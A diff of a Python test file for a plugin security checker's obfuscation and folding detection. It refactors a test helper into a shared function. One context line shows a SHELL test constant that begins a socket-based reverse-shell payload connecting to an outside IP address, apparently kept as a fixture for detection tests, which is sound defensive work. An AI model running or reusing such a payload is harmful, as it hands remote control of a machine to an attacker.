@@ -17,7 +17,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from helpers import run, write_plugin
+from helpers import expression_context, run, write_plugin
 from mbcheck.checks.security import fold as folding
 from mbcheck.checks.security.obfuscation import (
     TABLE,
@@ -38,14 +38,9 @@ SHELL = (b'import os, socket, subprocess\ns = socket.socket()\ns.connect(("45.61
 
 
 def context(source: str) -> tuple[FileContext, cst.BaseExpression]:
-    module = cst.parse_module(source)
-    ctx = FileContext(module, "__init__.py", "plugin", "plugin", True)
-    ctx.names.prebind_module(module)
-    last = module.body[-1]
-    assert isinstance(last, cst.SimpleStatementLine)
-    statement = last.body[0]
-    assert isinstance(statement, (cst.Expr, cst.Assign))
-    return ctx, statement.value
+    """The last statement's expression of ``source``, with names bound as the traversal would."""
+    ctx, expr = expression_context(source)
+    return ctx, expr
 
 
 def fold(source: str) -> str | None:
